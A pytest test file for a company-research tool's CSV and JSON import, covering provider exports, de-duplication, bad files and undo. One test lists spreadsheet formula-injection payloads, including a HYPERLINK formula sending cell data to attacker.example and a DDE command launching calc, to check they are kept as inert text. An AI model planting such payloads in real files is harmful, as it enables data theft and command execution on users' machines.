"""CSV and JSON import: provider exports, de-duplication, hostile cells, bad files, all or nothing.

The fixtures under ``fixtures/import/`` are small exports written for these tests in the
shape of the real ones (research notes §1b): a Crunchbase organisation export with a
UTF-8 BOM, a PitchBook company export with preamble rows, a plain sheet, duplicates
spelled differently, hostile cells, messy rows and files that are not imports at all.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from store.service import Workbench
from tests.store.conftest import FIXTURES, STARTER_COUNT, Fingerprint, assert_one_line_error

IMPORTS = FIXTURES / "import"
COUNTS = re.compile(r"^(\d+) added, (\d+) updated, (\d+) duplicates, (\d+) skipped\.$")
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


# Helpers ----------------------------------------------------------------------------------


def tables(db_path: Path) -> dict[str, dict[str, Any]]:
    """The database file as stored (plain JSON, one table per key)."""
    return json.loads(db_path.read_bytes())


def companies(db_path: Path) -> dict[str, dict[str, Any]]:
    """Companies by name."""
    return {record["name"]: record for record in tables(db_path)["companies"].values()}


def change_log(db_path: Path) -> list[dict[str, Any]]:
    """The change log, oldest first."""
    log = tables(db_path).get("changes", {})
    return [log[key] for key in sorted(log)]


def seeded(db_path: Path) -> Path:
    """Create the database with the stack and the starter companies."""
    Workbench.open(db_path, author="tester").close()
    return db_path


def run_import(cli, db_path: Path, file: Path | str, *options: str):
    return cli("import", str(file), "--db", str(db_path), *options)


def report_lines(result) -> list[str]:
    return result.out.splitlines()


def counts(result) -> tuple[int, int, int, int]:
    """The closing counts of an import report: added, updated, duplicates, skipped."""
    lines = report_lines(result)
    tail = [line for line in lines if COUNTS.match(line)]
    assert len(tail) == 1, result.out
    # The counts close the report: only the "written"/"dry run" line may follow them.
    position = lines.index(tail[0])
    assert lines[position + 1 :] in (
        [],
        ["Dry run: nothing was written."],
    ) or lines[position + 1].startswith("Imported into "), result.out
    added, updated, duplicates, skipped = map(int, COUNTS.match(tail[0]).groups())
    return added, updated, duplicates, skipped


def row_line(result, number: int) -> str:
    """The report line of one row."""
    found = [line for line in report_lines(result) if line.startswith(f"row {number}: ")]
    assert len(found) == 1, (number, result.out)
    return found[0]


def write_csv(path: Path, rows: list[list[str]], *, bom: bool = False) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buffer.getvalue().encode())
    return path


def all_strings(value: Any) -> list[str]:
    """Every string (keys included) inside a JSON-like value."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in (key, *all_strings(item))]
    if isinstance(value, list):
        return [s for item in value for s in all_strings(item)]
    return []


# Data-provider exports --------------------------------------------------------------------


def test_crunchbase_export_with_bom(cli, db_path: Path) -> None:
    fixture = IMPORTS / "crunchbase_organizations.csv"
    assert fixture.read_bytes().startswith(b"\xef\xbb\xbfOrganization Name,")
    result = run_import(cli, db_path, fixture)
    assert result.code == 0, result.err
    assert result.err == ""
    assert counts(result) == (6, 0, 0, 0)
    assert (
        result.out.splitlines()[-1]
        == f"Imported into {db_path} (one change; 'u' in the app undoes it)."
    )

    stored = companies(db_path)
    assert sorted(stored) == sorted(
        [
            "Helio Fathom",
            "Quillon Silicon",
            "Lumenwave Optics",
            "Strata Vector",
            "Tessellate Runtime",
            "Birchleaf Creative",
        ]
    )  # a first import into a new database brings the stack, not the starter companies
    helio = stored["Helio Fathom"]
    assert helio["website"] == "https://www.heliofathom.io"
    assert (
        helio["one_liner"]
        == "Immersion cooling tanks that let dense GPU racks run without chillers."
    )
    assert helio["headquarters"] == "Reno, Nevada, United States"
    assert helio["founded_year"] == 2021
    assert helio["stage"] == "Series A"
    assert helio["status"] == "new"
    assert helio["source"] == "import: crunchbase_organizations.csv"
    assert helio["provider_ids"] == {
        "crunchbase": "https://www.crunchbase.com/organization/helio-fathom"
    }
    # Columns without a field of their own are kept as they came, under their own header.
    assert helio["source_data"]["CB Rank (Company)"] == "18452"
    assert helio["source_data"]["Total Funding Amount"] == "$38,000,000"
    assert helio["source_data"]["Total Funding Amount Currency (in USD)"] == "38,000,000"
    assert helio["source_data"]["Number of Employees"] == "51-100"
    assert helio["source_data"]["Operating Status"] == "Active"
    assert helio["source_data"]["Industries"] == "Cleantech, Data Center, Energy Efficiency"
    # The long description is not lost because the one-liner came from the short one.
    assert helio["source_data"]["full description"].startswith(
        "Helio Fathom builds two-phase immersion"
    )
    assert "cut the energy spent on chillers" in helio["source_data"]["full description"]
    # The BOM never reaches a header or a value.
    assert not any("\ufeff" in text for record in stored.values() for text in all_strings(record))

    assert stored["Quillon Silicon"]["website"] == "https://quillonsilicon.com"
    assert stored["Quillon Silicon"]["founded_year"] == 2022
    assert stored["Lumenwave Optics"]["stage"] == "Series B"
    assert (
        "CB Rank (Company)" not in stored["Strata Vector"]["source_data"]
    )  # empty cells are not kept


def test_layer_is_suggested_from_keywords_with_the_reason(cli, db_path: Path) -> None:
    result = run_import(cli, db_path, IMPORTS / "crunchbase_organizations.csv")
    assert result.code == 0, result.err
    stored = companies(db_path)
    assert {name: record["layer"] for name, record in stored.items()} == {
        "Helio Fathom": "power",
        "Quillon Silicon": "compute",
        "Lumenwave Optics": "network",
        "Strata Vector": "data",
        "Tessellate Runtime": "orchestration",
        "Birchleaf Creative": None,
    }
    helio = row_line(result, 2)
    assert helio.startswith("row 2: added Helio Fathom → Power & Facilities (matched ")
    assert "cooling" in helio and "data center" in helio
    assert row_line(result, 3).startswith(
        "row 3: added Quillon Silicon → Compute (matched semiconductor"
    )
    assert row_line(result, 4).startswith(
        "row 4: added Lumenwave Optics → Networking & Interconnect (matched "
    )
    assert "optical communication" in row_line(result, 4)
    assert "vector database" in row_line(result, 5)
    assert "inference platform" in row_line(result, 6)
    # A row matching no layer is left unsorted, and the report says so.
    assert row_line(result, 7) == (
        "row 7: added Birchleaf Creative → unsorted (no layer keyword matched; left unsorted)"
    )


def test_layer_option_forces_the_layer(cli, db_path: Path) -> None:
    result = run_import(cli, db_path, IMPORTS / "crunchbase_organizations.csv", "--layer", "data")
    assert result.code == 0, result.err
    assert {record["layer"] for record in companies(db_path).values()} == {"data"}
    for number in range(2, 8):
        assert row_line(result, number).endswith("→ Data (chosen for the whole import)")


def test_unknown_layer_option_is_refused_and_writes_nothing(cli, db_path: Path) -> None:
    fixture = IMPORTS / "plain_companies.csv"
    result = run_import(cli, db_path, fixture, "--layer", "quantum")
    assert_one_line_error(result, "no layer 'quantum'", "power")
    assert not db_path.exists()
    seeded(db_path)
    before = Fingerprint.of(db_path)
    assert_one_line_error(
        run_import(cli, db_path, fixture, "--layer", "quantum"), "no layer 'quantum'"
    )
    assert Fingerprint.of(db_path) == before


def test_pitchbook_export_with_preamble_rows(cli, db_path: Path) -> None:
    fixture = IMPORTS / "pitchbook_companies.csv"
    header_line = (
        fixture.read_text()
        .splitlines()
        .index(
            next(
                line for line in fixture.read_text().splitlines() if line.startswith("Company ID,")
            )
        )
    )
    assert header_line == 6  # six preamble rows above the header
    result = run_import(cli, db_path, fixture)
    assert result.code == 0, result.err
    assert counts(result) == (4, 0, 1, 0)
    stored = companies(db_path)
    assert sorted(stored) == [
        "Gridmoor Energy",
        "Kestrel Fabric",
        "Ordinal Labelworks",
        "Pallas Scheduler",
    ]
    # Rows are numbered as lines of the file, so the first company is on line 8.
    assert row_line(result, 8).startswith(
        "row 8: added Gridmoor Energy → Power & Facilities (matched "
    )
    assert row_line(result, 9).startswith("row 9: added Kestrel Fabric → Networking & Interconnect")
    assert row_line(result, 10).startswith("row 10: added Ordinal Labelworks → Data")
    assert row_line(result, 11).startswith(
        "row 11: added Pallas Scheduler → Orchestration & Inference"
    )
    # Same Company ID, different name and no website: a duplicate by provider id.
    assert row_line(result, 12) == (
        "row 12: duplicate Pallas Scheduling AG (fka Pallas Compute) (same pitchbook id as row 11)"
    )
    gridmoor = stored["Gridmoor Energy"]
    assert gridmoor["provider_ids"] == {"pitchbook": "412087-33"}
    assert gridmoor["website"] == "https://www.gridmoor.energy"
    assert gridmoor["headquarters"] == "Calgary, Canada"
    assert gridmoor["founded_year"] == 2020
    assert gridmoor["stage"] == "Early Stage VC"
    assert gridmoor["source_data"]["Total Raised"] == "64.20"
    assert (
        gridmoor["source_data"]["Keywords"] == "behind-the-meter, natural gas, battery, data center"
    )
    assert gridmoor["source_data"]["Verticals"].startswith("CleanTech")
    assert gridmoor["source_data"]["Business Status"] == "Generating Revenue"
    assert stored["Pallas Scheduler"]["website"] == ""


def test_plain_sheet_with_layer_tags_and_status(cli, db_path: Path) -> None:
    result = run_import(cli, db_path, IMPORTS / "plain_companies.csv")
    assert result.code == 0, result.err
    assert counts(result) == (6, 0, 0, 0)
    stored = companies(db_path)
    summary = {name: (r["layer"], r["tags"], r["status"]) for name, r in stored.items()}
    assert summary == {
        "Verdant Megawatt": ("power", ["grid", "sourcing-2026"], "screening"),
        "Corvid Accelerators": ("compute", ["accelerators"], "new"),
        # A layer may be named by id or by name, in any case.
        "Skein Networks": ("network", ["ethernet", "portfolio-watch"], "watching"),
        "Harrow Data": ("data", [], "diligence"),
        "Marlin Serve": ("orchestration", ["inference", "shortlist"], "new"),
        "Oddment Labs": (None, [], "new"),
    }
    assert row_line(result, 2).endswith("→ Power & Facilities (from the file)")
    assert row_line(result, 7).endswith("→ unsorted (no layer keyword matched; left unsorted)")


def test_header_aliases_are_case_insensitive(cli, db_path: Path, tmp_path: Path) -> None:
    sheet = write_csv(
        tmp_path / "shouting.csv",
        [
            [
                "  ORGANIZATION   NAME ",
                "WebSite",
                "headquarters LOCATION",
                "FOUNDED date",
                "Last Funding TYPE",
                "DESCRIPTION",
                "industries",
                "Organization Name URL",
                "Hiring Manager",
            ],
            [
                "Sable Interconnect",
                "SABLE-IC.COM",
                "Lyon, France",
                "2018-05-02",
                "Series C",
                "Retimers for PCIe and CXL links.",
                "Semiconductor, Networking",
                "https://www.crunchbase.com/organization/sable-interconnect",
                "R. Okafor",
            ],
        ],
        bom=True,
    )
    result = run_import(cli, db_path, sheet)
    assert result.code == 0, result.err
    assert counts(result) == (1, 0, 0, 0)
    sable = companies(db_path)["Sable Interconnect"]
    assert (sable["website"], sable["headquarters"], sable["founded_year"], sable["stage"]) == (
        "https://SABLE-IC.COM",
        "Lyon, France",
        2018,
        "Series C",
    )
    assert sable["one_liner"] == "Retimers for PCIe and CXL links."
    assert sable["provider_ids"] == {
        "crunchbase": "https://www.crunchbase.com/organization/sable-interconnect"
    }
    assert sable["source_data"] == {
        "industries": "Semiconductor, Networking",
        "Hiring Manager": "R. Okafor",
    }


def test_windows_1252_file_is_read(cli, db_path: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "legacy.csv"
    sheet.write_bytes("name,headquarters\r\nSociété Thermique,Besançon\r\n".encode("cp1252"))
    result = run_import(cli, db_path, sheet)
    assert result.code == 0, result.err
    assert companies(db_path)["Société Thermique"]["headquarters"] == "Besançon"


# De-duplication ---------------------------------------------------------------------------


def test_duplicates_by_domain_within_the_file(cli, db_path: Path) -> None:
    fixture = IMPORTS / "duplicates_by_domain.csv"
    result = run_import(cli, db_path, fixture)
    assert result.code == 0, result.err
    assert counts(result) == (2, 0, 3, 0)
    assert row_line(result, 3).startswith(
        "row 3: duplicate ACME photonics (same domain acmephotonics.com as row 2"
    )
    assert row_line(result, 4).startswith(
        "row 4: duplicate Acme Photonics, Inc. (same name as row 2"
    )
    assert row_line(result, 5).startswith(
        "row 5: duplicate ACME PHOTONICS INCORPORATED (same domain acmephotonics.com as row 2"
    )
    stored = companies(db_path)
    assert sorted(stored) == ["Acme Photonic Labs", "Acme Photonics Inc"]
    acme = stored["Acme Photonics Inc"]
    assert acme["website"] == "https://acmephotonics.com"
    assert acme["one_liner"] == "Silicon photonics transceivers for GPU clusters."
    # The duplicate's data fills what the first row left empty, as for an existing company.
    assert acme["headquarters"] == "Tucson, Arizona, United States"
    # Importing it again finds nothing new.
    again = run_import(cli, db_path, fixture)
    assert again.code == 0, again.err
    assert counts(again) == (0, 0, 5, 0)
    assert companies(db_path) == stored


def test_duplicates_of_an_existing_company_fill_only_empty_fields(cli, db_path: Path) -> None:
    bench = Workbench.open(db_path, author="tester")
    try:
        bench.add_company(
            "Acme Photonics",
            layer="compute",
            website="https://acmephotonics.com",
            one_liner="Our own line on them.",
            tags=["optics-watch"],
        )
    finally:
        bench.close()
    result = run_import(cli, db_path, IMPORTS / "duplicates_by_domain.csv")
    assert result.code == 0, result.err
    assert counts(result) == (1, 1, 3, 0)
    assert row_line(result, 2).startswith(
        "row 2: duplicate Acme Photonics Inc "
        "(same domain acmephotonics.com as Acme Photonics; nothing new"
    )
    assert row_line(result, 3).startswith(
        "row 3: updated ACME photonics → Compute (same domain acmephotonics.com as Acme Photonics; "
        "filled headquarters"
    )
    stored = companies(db_path)
    assert "Acme Photonics Inc" not in stored and "ACME photonics" not in stored
    acme = stored["Acme Photonics"]
    assert (acme["layer"], acme["one_liner"], acme["tags"]) == (
        "compute",
        "Our own line on them.",
        ["optics-watch"],
    )
    assert acme["headquarters"] == "Tucson, Arizona, United States"
    assert "Acme Photonic Labs" in stored


def test_provider_id_matches_an_existing_company(cli, db_path: Path, tmp_path: Path) -> None:
    assert run_import(cli, db_path, IMPORTS / "crunchbase_organizations.csv").code == 0
    later = write_csv(
        tmp_path / "later_export.csv",
        [
            ["Organization Name", "Organization Name URL", "Owner", "Last Funding Type"],
            # A new spelling, no website, the permalink in another case with a trailing slash.
            [
                "Helio Fathom Technologies",
                "HTTPS://WWW.CRUNCHBASE.COM/organization/helio-fathom/",
                "dana",
                "Series B",
            ],
        ],
    )
    result = run_import(cli, db_path, later)
    assert result.code == 0, result.err
    assert counts(result) == (0, 1, 0, 0)
    assert row_line(result, 2).startswith(
        "row 2: updated Helio Fathom Technologies → Power & Facilities "
        "(same crunchbase id as Helio Fathom; "
        "filled owner"
    )
    helio = companies(db_path)["Helio Fathom"]
    assert helio["owner"] == "dana"
    assert helio["stage"] == "Series A"  # set before, so not overwritten
    assert "Helio Fathom Technologies" not in companies(db_path)


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        # Domain wins over a provider id and a name that point elsewhere.
        (
            [
                "Ridgeback Data",
                "https://www.crunchbase.com/organization/quarry-optics",
                "https://pomona-grid.example/team",
            ],
            "same domain pomona-grid.example as Pomona Grid",
        ),
        # Then the provider id, over the name.
        (
            ["Ridgeback Data", "https://www.crunchbase.com/organization/quarry-optics", ""],
            "same crunchbase id as Quarry Optics",
        ),
        # Then the name, without case, punctuation or legal suffix.
        (["RIDGEBACK-DATA, Inc.", "", ""], "same name as Ridgeback Data"),
    ],
)
def test_match_order_is_domain_then_provider_id_then_name(
    cli, db_path: Path, tmp_path: Path, row: list[str], expected: str
) -> None:
    header = ["Organization Name", "Organization Name URL", "Website"]
    existing = write_csv(
        tmp_path / "existing.csv",
        [
            header,
            ["Pomona Grid", "", "pomona-grid.example"],
            ["Quarry Optics", "https://www.crunchbase.com/organization/quarry-optics", ""],
            ["Ridgeback Data", "", ""],
        ],
    )
    assert counts(run_import(cli, db_path, existing)) == (3, 0, 0, 0)
    before = Fingerprint.of(db_path)
    probe = write_csv(tmp_path / "probe.csv", [header, row])
    result = run_import(cli, db_path, probe, "--dry-run")
    assert result.code == 0, result.err
    assert expected in row_line(result, 2)
    assert counts(result)[0] == 0
    assert Fingerprint.of(db_path) == before


def test_existing_annotations_are_never_overwritten(cli, db_path: Path, tmp_path: Path) -> None:
    bench = Workbench.open(db_path, author="tester")
    try:
        helio = bench.add_company(
            "Helio Fathom",
            layer="compute",
            one_liner="Our thesis: cooling is the wedge.",
            tags=["thesis-cooling", "Q4"],
            owner="ana",
        )
        bench.add_note(helio.id, "Met the CEO; **strong** on thermal IP.")
        run = bench.record_run(helio.id, {"A1": "y", "A2": "p", "C1": "n"})
        bench.set_status([helio.id], "passed", reason="Too early for our fund")
        bench.set_revisit([helio.id], "2027-03-01")
        bench.edit_company(helio.id, kill_criterion="A hyperscaler ships the same tank")
        before = bench.company(helio.id).model_dump(mode="json")
    finally:
        bench.close()
    sheet = write_csv(
        tmp_path / "clash.csv",
        [
            [
                "name",
                "website",
                "layer",
                "tags",
                "status",
                "owner",
                "description",
                "headquarters",
                "founded",
            ],
            [
                "HELIO FATHOM",
                "heliofathom.io",
                "data",
                "imported-tag",
                "screening",
                "bob",
                "A different description.",
                "Reno, Nevada",
                "2021",
            ],
        ],
    )
    result = run_import(cli, db_path, sheet)
    assert result.code == 0, result.err
    assert counts(result) == (0, 1, 0, 0)
    after = companies(db_path)["Helio Fathom"]
    for field in (
        "name",
        "layer",
        "one_liner",
        "tags",
        "status",
        "pass_reason",
        "owner",
        "revisit",
        "kill_criterion",
        "notes",
        "status_log",
        "created",
    ):
        assert after[field] == before[field], field
    # Only the empty fields were filled.
    assert after["website"] == "https://heliofathom.io"
    assert after["headquarters"] == "Reno, Nevada"
    assert after["founded_year"] == 2021
    runs = [r for r in tables(db_path)["runs"].values() if r["company_id"] == helio.id]
    assert [r["id"] for r in runs] == [run.id] and runs[0]["score"] == run.score


# Idempotence, one change, undo ------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "first"),
    [
        ("crunchbase_organizations.csv", (6, 0, 0, 0)),
        ("pitchbook_companies.csv", (4, 0, 1, 0)),
        ("plain_companies.csv", (6, 0, 0, 0)),
        ("duplicates_by_domain.csv", (2, 0, 3, 0)),
        ("hostile_cells.csv", (8, 0, 0, 0)),
        ("messy_rows.csv", (4, 0, 0, 1)),
    ],
)
def test_importing_the_same_file_twice_adds_nothing(
    cli, db_path: Path, name: str, first: tuple[int, int, int, int]
) -> None:
    seeded(db_path)
    assert counts(run_import(cli, db_path, IMPORTS / name)) == first
    stored, log = companies(db_path), change_log(db_path)
    before = Fingerprint.of(db_path)
    again = run_import(cli, db_path, IMPORTS / name)
    assert again.code == 0, again.err
    added, updated, duplicates, skipped = counts(again)
    assert (added, updated) == (0, 0)
    assert duplicates == sum(first[:3]) and skipped == first[3]
    assert "Imported into" not in again.out
    assert companies(db_path) == stored and change_log(db_path) == log
    assert Fingerprint.of(db_path) == before


def test_an_import_is_one_change_and_undo_removes_all_of_it(cli, db_path: Path) -> None:
    seeded(db_path)
    before = tables(db_path)
    result = run_import(cli, db_path, IMPORTS / "crunchbase_organizations.csv")
    assert result.code == 0, result.err
    after = tables(db_path)
    new_changes = [
        after["changes"][key] for key in sorted(set(after["changes"]) - set(before["changes"]))
    ]
    assert len(new_changes) == 1
    assert new_changes[0]["label"] == (
        "Imported crunchbase_organizations.csv: 6 added, 0 updated, 0 duplicates, 0 skipped"
    )
    assert len(after["companies"]) == len(before["companies"]) + 6 == STARTER_COUNT + 6
    bench = Workbench.open(db_path, author="tester")
    try:
        assert bench.undo() == new_changes[0]["label"]
    finally:
        bench.close()
    assert tables(db_path)["companies"] == before["companies"]


# Hostile and messy cells ------------------------------------------------------------------


def test_escape_sequences_and_control_characters_are_stripped(cli, db_path: Path) -> None:
    fixture = IMPORTS / "hostile_cells.csv"
    assert b"\x1b[31m" in fixture.read_bytes() and b"\x1b]0;" in fixture.read_bytes()
    result = run_import(cli, db_path, fixture)
    assert result.code == 0, result.err
    assert counts(result) == (8, 0, 0, 0)
    assert not CONTROL.search(result.out) and not CONTROL.search(result.err)
    stored = companies(db_path)
    for record in stored.values():
        for text in all_strings(record):
            assert not CONTROL.search(text), (record["name"], text)
    assert stored["Redshift Thermal"]["one_liner"] == "Liquid cooling for racks"
    assert stored["Bellwether Grid"]["one_liner"] == "Grid interconnect  studies for sites."
    assert stored["Clangor Compute"]["one_liner"] == "Bell  and carriage return"
    # Text that is merely odd is kept exactly: formulas and markup are only text.
    for name in (
        '=HYPERLINK("http://attacker.example/?leak="&A1,"Open deck")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "[red]Crimson[/red] Storage",
    ):
        assert name in stored, name
    assert stored["[red]Crimson[/red] Storage"]["one_liner"] == "[@click=app.quit]quit"


def test_rows_without_a_name_are_skipped_with_row_and_reason(cli, db_path: Path) -> None:
    result = run_import(cli, db_path, IMPORTS / "messy_rows.csv")
    assert result.code == 0, result.err
    assert counts(result) == (4, 0, 0, 1)
    assert row_line(result, 3) == "row 3: skipped (no name) (no company name)"
    assert not any(
        line.startswith("row 4:") for line in report_lines(result)
    )  # a blank line is no row
    assert "https://nameless.example" not in json.dumps(tables(db_path)["companies"])


def test_values_that_are_not_what_they_claim_are_left_empty_and_kept(cli, db_path: Path) -> None:
    result = run_import(cli, db_path, IMPORTS / "messy_rows.csv")
    stored = companies(db_path)
    basin = stored["Quiet Basin Power"]
    assert basin["founded_year"] is None
    assert basin["source_data"]["founded"] == "next spring"
    assert "founded 'next spring' is not a date, left empty" in row_line(result, 5)
    lattice = stored["Lattice Yard"]
    assert lattice["website"] == "" and lattice["source_data"]["website"] == "not a web address"
    assert "website 'not a web address' is not a web address, left empty" in row_line(result, 6)
    gantry = stored["Gantry Compute"]
    assert gantry["founded_year"] is None
    assert "founded_year 2999 is in the future, left empty" in row_line(result, 7)
    assert stored["Ferrule Systems"]["founded_year"] == 2020


def test_header_only_file_imports_nothing(cli, db_path: Path) -> None:
    seeded(db_path)
    before = Fingerprint.of(db_path)
    result = run_import(cli, db_path, IMPORTS / "header_only.csv")
    assert result.code == 0, result.err
    assert result.out == "0 added, 0 updated, 0 duplicates, 0 skipped.\n"
    assert Fingerprint.of(db_path) == before


# Files that cannot be imported ------------------------------------------------------------


def _giant_cell_csv(path: Path) -> Path:
    """Fifty good rows, then a cell beyond the CSV reader's limit: the file fails at row 52."""
    rows = [["name", "website"]] + [[f"Good Row {n}", f"good{n}.example"] for n in range(50)]
    rows.append(["Too Big", "x" * 200_000])
    return write_csv(path, rows)


BAD_FILES = [
    ("empty.csv", "is empty: there is nothing to import"),
    ("binary_logo.png", "is not a text file (it looks binary)"),
    ("not_ours.json", "is JSON but not a moatscope export"),
    ("broken.json", "is not valid JSON"),
    ("meeting_notes.txt", "has no column for the company name"),
    ("missing.csv", "There is no file"),
    ("a-folder", "Cannot read"),
    ("giant-cell.csv", "is not valid CSV"),
]


def _bad_file(name: str, tmp_path: Path) -> Path:
    if name == "missing.csv":
        return tmp_path / "missing.csv"
    if name == "a-folder":
        (tmp_path / "a-folder").mkdir(exist_ok=True)
        return tmp_path / "a-folder"
    if name == "giant-cell.csv":
        return _giant_cell_csv(tmp_path / "giant-cell.csv")
    return IMPORTS / name


@pytest.mark.parametrize(("name", "message"), BAD_FILES)
def test_bad_file_leaves_the_database_untouched(
    cli, db_path: Path, tmp_path: Path, name: str, message: str
) -> None:
    seeded(db_path)
    before = Fingerprint.of(db_path)
    result = run_import(cli, db_path, _bad_file(name, tmp_path))
    assert_one_line_error(result, message)
    assert Fingerprint.of(db_path) == before
    dry = run_import(cli, db_path, _bad_file(name, tmp_path), "--dry-run")
    assert_one_line_error(dry, message)
    assert Fingerprint.of(db_path) == before


@pytest.mark.parametrize(("name", "message"), BAD_FILES)
def test_bad_file_creates_no_database(
    cli, db_path: Path, tmp_path: Path, name: str, message: str
) -> None:
    result = run_import(cli, db_path, _bad_file(name, tmp_path))
    assert_one_line_error(result, message)
    assert not db_path.exists()


def test_giant_cell_names_the_row(cli, db_path: Path, tmp_path: Path) -> None:
    result = run_import(cli, db_path, _giant_cell_csv(tmp_path / "giant.csv"))
    assert_one_line_error(result, "Row 52 is not valid CSV", "nothing was imported")


def test_dry_run_reports_and_writes_nothing(cli, db_path: Path) -> None:
    fixture = IMPORTS / "crunchbase_organizations.csv"
    fresh = run_import(cli, db_path, fixture, "--dry-run")
    assert fresh.code == 0, fresh.err
    assert counts(fresh) == (6, 0, 0, 0)
    assert fresh.out.splitlines()[-1] == "Dry run: nothing was written."
    assert not db_path.exists()
    seeded(db_path)
    before = Fingerprint.of(db_path)
    result = run_import(cli, db_path, fixture, "--dry-run")
    assert result.code == 0, result.err
    assert counts(result) == (6, 0, 0, 0)
    assert row_line(result, 7).endswith("→ unsorted (no layer keyword matched; left unsorted)")
    assert Fingerprint.of(db_path) == before


# Ten megabytes ----------------------------------------------------------------------------


def _big_export(path: Path, rows: int) -> Path:
    words = (
        "optical interconnect inference serving storage pipeline grid cooling accelerator "
        "kubernetes vector database switch chiplet energy cluster labeling throughput latency"
    ).split()
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(
        [
            "Organization Name",
            "Organization Name URL",
            "Website",
            "Full Description",
            "Industries",
            "Headquarters Location",
            "Founded Date",
            "Last Funding Type",
            "Total Funding Amount",
        ]
    )
    for n in range(rows):
        text = " ".join(words[(n * 7 + k * 3) % len(words)] for k in range(110))
        writer.writerow(
            [
                f"Bulk Venture {n:05d}",
                f"https://www.crunchbase.com/organization/bulk-venture-{n}",
                f"https://bulk-venture-{n}.example.com",
                f"Bulk Venture {n} works on {text}"[:880],
                "Artificial Intelligence (AI), Software",
                "Austin, Texas, United States",
                f"{1990 + n % 35}-06-01",
                "Seed",
                f"${n * 1000:,}",
            ]
        )
    path.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode())
    return path


def test_ten_megabyte_export_lands_as_one_change(cli, db_path: Path, tmp_path: Path) -> None:
    # How long this takes is measured by `make bench` (bench_transfer), never asserted here.
    big = _big_export(tmp_path / "big.csv", 10_000)
    assert 9_500_000 < big.stat().st_size < 11_500_000
    result = run_import(cli, db_path, big)
    assert result.code == 0, result.err
    assert counts(result) == (10_000, 0, 0, 0)
    stored = tables(db_path)
    assert len(stored["companies"]) == 10_000 and len(stored["changes"]) == 1
    again = run_import(cli, db_path, big)
    assert counts(again) == (0, 0, 10_000, 0)
    bench = Workbench.open(db_path, author="tester")
    try:
        assert bench.undo() is not None
        assert bench.rows() == []
    finally:
        bench.close()
